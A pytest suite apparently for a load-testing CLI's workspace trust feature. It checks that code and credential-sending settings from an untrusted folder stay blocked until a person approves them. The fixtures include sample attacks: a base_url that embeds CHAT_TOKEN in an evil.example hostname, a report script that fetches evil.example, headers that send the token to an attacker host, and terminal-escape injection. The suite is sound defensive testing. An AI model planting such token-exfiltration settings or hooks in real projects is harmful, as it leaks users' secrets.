"""A stranger's workspace: nothing of it runs and nothing leaves this machine until somebody here says so."""

import importlib.util
import json
import marshal
import os
import pty
import shutil
import socket
import subprocess
import sys
import threading
import time
from contextlib import contextmanager
from pathlib import Path

import pytest

from tests.builders import with_corpus
from tests.cli.inside import pilot

CANARY = "canary-0f1e2d3c4b5a"
COMMANDS = (
    ("plan",),
    ("plan", "--seal"),
    ("check",),
    ("run", "--now"),
    ("collect",),
    ("sweep", "beta"),
    ("up", "beta"),
    ("cold", "beta"),
    ("check", "--trace", "beta"),
)
OPEN = (("status",), ("trust", "--list"), ("down",))  # what needs no trust


@pytest.fixture(autouse=True)
def _nobody_vouches(monkeypatch, tmp_path):
    """The suite vouches for every folder; here a person has just arrived."""
    monkeypatch.delenv("PILOT_TRUST")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("CHAT_TOKEN", CANARY)


@contextmanager
def listening():
    """A server of the stranger's: its URL, and every byte that reached it."""
    heard = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def serve():
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    connection.settimeout(2)
                    heard.append(connection.recv(65536))
                    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}")

        threading.Thread(target=serve, daemon=True).start()
        yield f"http://127.0.0.1:{server.getsockname()[1]}", heard


class Strange:
    """A workspace as it comes out of somebody's repository, and a file that its programs would make."""

    def __init__(self, tmp_path):
        self.root = tmp_path / "strange"
        self.mark = tmp_path / "ran"
        assert (
            pilot(tmp_path, "init", "made", "--baseline", "local_container", "--candidate", "local_function").returncode
            == 0
        )
        (tmp_path / "made").rename(self.root)  # under another path nothing is recorded
        shutil.copytree(self.root / "targets" / "local_function", self.root / "targets" / "beta")
        self.edit("pilot.toml", 'candidate = "local_function"', 'candidate = "beta"')
        (self.root / "targets" / "beta" / "sweep.toml").unlink(missing_ok=True)
        self.runs = [sys.executable, "-c", f"open({str(self.mark)!r}, 'w')"]

    def edit(self, name, old, new):
        path = self.root / name
        text = path.read_text()
        assert old in text, text
        path.write_text(text.replace(old, new, 1))

    def append(self, name, text):
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text((path.read_text() if path.exists() else "") + text)

    def has(self, corpus):
        """It was built already."""
        (self.root / ".pilot").mkdir(exist_ok=True)
        (self.root / ".pilot" / "corpus").symlink_to(corpus, target_is_directory=True)

    def target(self, text):
        (self.root / "targets" / "beta" / "target.toml").write_text(text)


def trusted(root):
    """As a command says that would run its profiles and then finds nothing to do."""
    done = pilot(root, "sweep", "beta")
    assert done.returncode == 2
    assert ("is not trusted" in done.stderr) or ("no sweep.toml" in done.stderr), done.stderr
    return "is not trusted" not in done.stderr


@pytest.fixture
def strange(tmp_path):
    return Strange(tmp_path)


def says(strange, *commands):
    """Each is refused with exit code 2, runs nothing, and says which command shows what it would have done."""
    out = []
    for words in commands:
        done = pilot(strange.root, *words)
        assert done.returncode == 2, (words, done.stdout, done.stderr)
        assert f"pilot trust {strange.root}" in done.stderr, (words, done.stderr)
        assert CANARY not in done.stdout + done.stderr
        assert not strange.mark.exists(), words
        out.append(done.stderr)
    return "\n".join(out)


AUTH = '[auth]\nkind = "header"\nenv = "CHAT_TOKEN"'
EXTERNAL = 'base_url = "{url}"\ndialect = "openai-chat"\n{more}\n[runtime]\nkind = "external"\n'


def as_corpus(s):
    s.append("pilot.toml", f"\n[corpus]\nbuild = {json.dumps(s.runs)}\n")


def as_profile(s):
    s.append("loadprofiles/steady.py", f"\nopen({str(s.mark)!r}, 'w')\n")


def as_module_beside_a_profile(s):
    s.append("loadprofiles/orjson.py", f"open({str(s.mark)!r}, 'w')\n")


def as_link_beside_a_profile(s):
    s.append("data/orjson/__init__.py", f"open({str(s.mark)!r}, 'w')\n")
    (s.root / "loadprofiles" / "orjson").symlink_to("../data/orjson")


def as_module_beside_pilot_toml(s):
    for name in ("typer", "uvicorn", "ragchat"):
        s.append(f"{name}.py", f"open({str(s.mark)!r}, 'w')\n")


def as_command(s):
    path = s.root / "targets/beta/target.toml"
    lines = [f"command = {json.dumps(s.runs)}" if x.startswith("command ") else x for x in path.read_text().split("\n")]
    path.write_text("\n".join(lines))


def as_variable_of_a_command(s):
    s.edit("targets/beta/target.toml", "[runtime.environment]\n", '[runtime.environment]\nPYTHONSTARTUP = "x.py"\n')


def as_workers_of_jobs(s):
    s.append(
        "targets/beta/target.toml", f"\n[runtime.jobs]\ncommand = {json.dumps(s.runs)}\nsource = {json.dumps(s.runs)}\n"
    )


def as_source_of_jobs(s):
    shipped = '["{python}", "-m", "ragchat.jobs.on_lambda"]'
    s.append("targets/beta/target.toml", f"\n[runtime.jobs]\ncommand = {shipped}\nsource = {json.dumps(s.runs)}\n")


def as_sweep(s):
    settings = "".join(f'[[settings]]\nname = "s{n}"\nfill = {{ n = {n} }}\n' for n in (1, 2))
    path = s.root / "targets" / "beta" / "sweep.toml"
    path.write_text(f"apply = [{json.dumps([*s.runs, '{n}'])}]\n{settings}")


@pytest.mark.parametrize(
    ("attack", "commands"),
    [
        (as_corpus, COMMANDS),
        (as_profile, (("plan",), ("check",), ("run",), ("sweep", "beta"))),
        (as_module_beside_a_profile, (("plan",), ("check",), ("run",))),
        (as_link_beside_a_profile, (("plan",), ("check",), ("run",))),
        (as_module_beside_pilot_toml, COMMANDS),
        (as_command, (("check",), ("run",), ("up", "beta"), ("check", "--trace", "beta"))),
        (as_variable_of_a_command, (("check",), ("up", "beta"))),
        (as_workers_of_jobs, (("check",), ("run",), ("up", "beta"))),
        (as_source_of_jobs, (("check",), ("up", "beta"))),
        (as_sweep, (("check",), ("run",), ("sweep", "beta"))),
    ],
)
def test_programs_of_a_stranger_do_not_run(strange, attack, commands):
    attack(strange)
    said = says(strange, *commands)

    assert "runs " in said
    for words in OPEN:
        assert pilot(strange.root, *words).returncode == 0, words
    assert not strange.mark.exists()


def test_a_compiled_file_does_not_run_in_place_of_its_source(strange, corpus):
    """One that says of itself that Python need not compare it."""
    with_corpus(strange.root, corpus)
    source = strange.root / "loadprofiles" / "steady.py"
    code = compile(f"{source.read_text()}\nopen({str(strange.mark)!r}, 'w')\n", str(source), "exec")
    compiled = Path(importlib.util.cache_from_source(str(source)))
    compiled.parent.mkdir()
    compiled.write_bytes(importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little") + bytes(8) + marshal.dumps(code))

    assert pilot(strange.root, "plan").returncode == 0
    assert not strange.mark.exists()


@pytest.mark.parametrize(
    ("more", "told"),
    [
        ('[auth]\nkind = "header"\nenv = "CHAT_TOKEN"', "CHAT_TOKEN as Authorization to {url}"),
        ('[headers]\nX-Of-Mine = "${{CHAT_TOKEN}}"', "CHAT_TOKEN as X-Of-Mine to {url}"),
        ('[auth]\nkind = "aws-sigv4"\nregion = "eu-west-1"', "a signature of this machine's credentials"),
        ('[auth]\nkind = "azure-token"\nscope = "https://management.azure.com/.default"', "an access token"),
        ('[[sources]]\nkind = "prometheus"\nurl = "{url}"\nenv = "CHAT_TOKEN"', "CHAT_TOKEN to {url}"),
        ('[[sources]]\nkind = "lambda-logs"\nlog_group = "x"\nregion = "eu-west-1"', "this machine's credentials"),
    ],
)
def test_variables_and_credentials_go_nowhere(strange, more, told):
    with listening() as (url, heard):
        strange.target(EXTERNAL.format(url=url, more=more.format(url=url)))
        said = says(strange, ("check",), ("run",), ("collect",), ("check", "beta"), ("check", "--trace", "beta"))

    assert told.format(url=url) in said
    assert heard == []


def test_a_variable_in_the_address_itself_is_told(strange):
    strange.target(EXTERNAL.format(url="https://${CHAT_TOKEN}.evil.example", more=""))
    assert "reads CHAT_TOKEN for base_url = https://${CHAT_TOKEN}.evil.example" in says(strange, ("check",))


def test_one_run_by_hand_sends_no_variable_either(strange):
    with listening() as (url, heard):
        strange.target(EXTERNAL.format(url=url, more=AUTH))
        command = [sys.executable, "-m", "locust", "-f", "loadprofiles/steady.py", "--headless", "--target", "beta"]
        done = subprocess.run(
            command, cwd=strange.root, capture_output=True, text=True, timeout=60, check=False, stdin=subprocess.DEVNULL
        )

    assert done.returncode == 2
    assert f"pilot trust {strange.root}" in done.stderr
    assert CANARY not in done.stderr
    assert heard == []


def test_a_page_of_a_strangers_own_making_is_not_rendered(strange):
    strange.append("reports/style/report.js", "fetch('https://evil.example')")
    assert "shows reports/style/report.js" in says(strange, ("report",))


def test_what_came_with_this_package_needs_no_question(strange):
    assert trusted(strange.root)
    assert "nothing to confirm" in pilot(strange.root, "trust").stdout


def test_the_workers_of_jobs_that_came_with_this_package_need_none_either(strange):
    command, source = (f'["{{python}}", "-m", "ragchat.jobs.{name}"]' for name in ("on_lambda", "source"))
    strange.append("targets/beta/target.toml", f"\n[runtime.jobs]\ncommand = {command}\nsource = {source}\n")

    assert trusted(strange.root)


def test_what_was_made_here_is_trusted_at_once(tmp_path):
    words = ("init", "ours", "--baseline-url", "http://127.0.0.1:9", "--candidate-url", "http://127.0.0.1:10")
    assert pilot(tmp_path, *words).returncode == 0
    [path] = [p for p in (tmp_path / "ours").rglob("target.toml") if "127.0.0.1:9" in p.read_text()]
    assert json.loads(pilot(tmp_path, "trust", "ours", "--json").stdout)["trusted"]

    path.write_text(f'{path.read_text()}\n[headers]\nX-Mine = "${{CHAT_TOKEN}}"\n')
    said = json.loads(pilot(tmp_path, "trust", "ours", "--json").stdout)
    assert not said["trusted"]
    assert [want["what"] for want in said["wants"]] == ["CHAT_TOKEN as X-Mine to http://127.0.0.1:9"]


def test_trust_is_given_changed_named_and_taken_back(strange, corpus, planned_soon):
    with_corpus(strange.root, corpus)
    strange.target(EXTERNAL.format(url="http://127.0.0.1:9", more=AUTH))
    as_profile(strange)

    shown = pilot(strange.root, "trust", str(strange.root))
    assert shown.returncode == 2, "nobody is here to say yes"
    assert "sends CHAT_TOKEN as Authorization to http://127.0.0.1:9 (targets/beta/target.toml)" in shown.stdout
    assert "runs the code of loadprofiles/steady.py" in shown.stdout
    assert CANARY not in shown.stdout

    given = pilot(strange.root, "trust", str(strange.root), "--yes")
    assert given.returncode == 0
    assert pilot(strange.root, "plan").returncode == 0
    assert strange.mark.exists(), "the profile is code, and runs now"
    strange.mark.unlink()

    strange.edit("targets/beta/target.toml", "127.0.0.1:9", "evil.example")
    said = pilot(strange.root, "check")
    assert said.returncode == 2
    assert "CHAT_TOKEN as Authorization to http://evil.example" in said.stderr
    assert "confirmed was: CHAT_TOKEN as Authorization to http://127.0.0.1:9" in said.stderr
    assert "steady.py" not in said.stderr, "it has not changed"

    listed = json.loads(pilot(strange.root, "trust", "--list", "--json").stdout)
    assert [row["path"] for row in listed if row["path"] == str(strange.root)] == [str(strange.root)]
    assert pilot(strange.root, "trust", str(strange.root), "--revoke").returncode == 0
    assert not trusted(strange.root)


def test_the_record_is_its_users_alone(strange, tmp_path):
    as_profile(strange)
    assert pilot(strange.root, "trust", "--yes").returncode == 0
    records = [p for p in (tmp_path / "state").rglob("*.json") if str(strange.root) in p.read_text()]

    [record] = records
    assert record.stat().st_mode & 0o777 == 0o600
    assert not list(strange.root.rglob("trust*"))
    assert trusted(strange.root)
    record.chmod(0o666)  # anybody could have written it
    assert not trusted(strange.root)


def test_a_copy_elsewhere_is_another_workspace(strange, tmp_path):
    as_profile(strange)
    assert pilot(strange.root, "trust", "--yes").returncode == 0
    shutil.copytree(strange.root, tmp_path / "copy")

    assert not trusted(tmp_path / "copy")


def test_a_ci_vouches_for_a_folder(strange, tmp_path, monkeypatch):
    as_profile(strange)
    for vouched, fits in (("strange", False), (str(tmp_path / "other"), False), (str(tmp_path), True)):
        monkeypatch.setenv("PILOT_TRUST", vouched)
        assert trusted(strange.root) is fits, vouched


def test_escapes_in_what_it_wants_stay_text(strange):
    strange.target(EXTERNAL.format(url="http://127.0.0.1:9/\\u001b[2K\\u202e", more=AUTH))
    done = pilot(strange.root, "check")

    assert done.returncode == 2
    assert "\x1b" not in done.stderr
    assert "\u202e" not in done.stderr


@pytest.mark.parametrize(("typed", "agreed"), [("n", False), ("", False), ("y", True)])
def test_at_a_terminal_a_person_is_asked(strange, typed, agreed):
    as_profile(strange)
    shown, _ = at_terminal(strange.root, ("sweep", "beta"), "[y/N]", typed)

    assert "the code of loadprofiles/steady.py" in shown
    assert ("is not trusted" not in shown) is agreed
    assert trusted(strange.root) is agreed


def at_terminal(folder, words, question, answer):
    """What was shown, and the exit code."""
    ours, theirs = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "harness", *words],
        cwd=folder,
        stdin=theirs,
        stdout=theirs,
        stderr=theirs,
        close_fds=True,
    )
    os.close(theirs)
    shown, asked, until = "", False, time.monotonic() + 60
    while time.monotonic() < until:
        try:
            data = os.read(ours, 4096)
        except OSError:
            break
        if not data:
            break
        shown += data.decode(errors="replace")
        if not asked and question in shown:
            asked = True
            os.write(ours, f"{answer}\n".encode())
    os.close(ours)
    return shown, process.wait(20)
